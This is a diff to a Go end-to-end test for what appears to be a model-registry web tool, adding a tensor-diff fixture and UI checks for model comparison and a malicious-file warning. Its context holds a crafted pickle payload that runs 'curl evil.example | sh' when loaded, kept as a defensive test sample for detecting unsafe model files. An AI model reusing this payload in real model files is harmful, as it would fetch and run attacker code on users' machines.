@@ -68,6 +68,12 @@ fields:
   sick: {as: label, positive: ["1"], negative: ["0"]}
 `
 
+// tensors is what "model diff --format json" prints of two versions.
+const tensors = `{"type":"difference","formats":["safetensors"],"tensors":3,"same":1,"files_same":1,"changes":[
+{"name":"adapter.gate","kind":"added","to":"F32[64]"},{"name":"head.weight","kind":"shape","from":"F32[2,64]","to":"F32[3,64]"},
+{"name":"layer.5.q.weight","kind":"values","from":"F32[64,64]","to":"F32[64,64]","count":4096,"moved":{"changed":1248,"max":0.71,"mean":0.05,"relative":0.115,"cosine":0.99}},
+{"name":"layer.4.q.weight","kind":"values","from":"F32[64,64]","to":"F32[64,64]","count":4096,"moved":{"changed":40,"max":0.01,"mean":0.0001,"relative":0.002,"cosine":1}}]}`
+
 // exploit is a pickle that runs a command when it is loaded.
 const exploit = "\x80\x02cposix\nsystem\nq\x00X\x16\x00\x00\x00curl evil.example | sh\x85q\x01Rq\x02."
 
@@ -127,12 +133,14 @@ func TestModel(t *testing.T) {
 	cli("model", "sketch", file("accepted.csv", days(70, 61, 300, never)), "--config", mapped, "-o", reference)
 	file("m1/model.pkl", exploit)
 	file("m2/weights.json", "{}")
+	diff := file("diff.json", tensors)
 	for i, threshold := range []string{"0.5", "0.3"} {
 		version := fmt.Sprint(i + 1)
 		p := file("plan-"+version+".yaml", fmt.Sprintf(plan, version+".*", threshold))
 		cli("model", "register", filepath.Join(dir, "m"+version), "--plan", p, "--version", version+".0", "--called", "chest")
 		cli("model", "import", reference, "--maker", "Example Imaging", "--product", "Chest Triage", "--version", version+".0", "--called", "chest")
 	}
+	cli("model", "import", diff, "--maker", "Example Imaging", "--product", "Chest Triage", "--version", "2.0", "--called", "chest")
 	config := file("wardround.yaml", "inference:\n  - {name: triage, mapping: "+mapped+", watch: "+filepath.Join(dir, "incoming")+"}\n")
 	file("incoming/days.csv", days(16, 1, 200, func(ago int) bool { return ago <= 10 && ago > 3 }))
 
@@ -162,7 +170,12 @@ func TestModel(t *testing.T) {
 	b.at("/models/chest")
 	b.text("What moved, and when")
 	b.until("the map", `document.querySelectorAll(".md-heat button").length > 20`)
-	b.text("It looks up the function or class")
+	b.text("What matters now")
+	b.text("Do not load it: it would run what an attacker wrote.")
+	b.text("and calls it with")
+	b.text("AML.T0011.000")
+	b.text("AUROC over time")
+	b.until("performance over time, reliability and the decision curve", `document.querySelectorAll("[aria-label='AUROC over time'] canvas").length >= 3`)
 	b.text("No row is kept")
 
 	// By keyboard: a square that moved, and what was there.
@@ -197,6 +210,9 @@ func TestModel(t *testing.T) {
 	b.visit("/models/compare?a=" + ids[0] + "&b=" + ids[1])
 	b.text("References, column by column")
 	b.text("people have to decide")
+	b.text("Other values in 2 of 4 tensors.")
+	b.text("no clause of the change control plan speaks of it")
+	b.text("Measured here from outcomes")
 	b.accessible("model-compare")
 	b.shot("model-compare-light-desk")
 }
